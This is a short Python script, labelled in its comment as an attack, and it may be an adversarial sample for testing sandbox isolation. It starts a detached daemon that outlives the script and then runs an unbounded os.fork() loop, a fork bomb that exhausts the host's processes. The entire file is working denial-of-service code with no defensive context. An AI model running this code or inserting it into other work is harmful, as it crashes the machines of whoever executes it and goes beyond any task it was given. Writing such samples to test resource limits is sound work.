# attack: a setsid daemon that outlives the import, then a fork bomb
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "lrkit-adv-daemon-7f3a"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
while True:
    try:
        os.fork()
    except OSError:
        pass
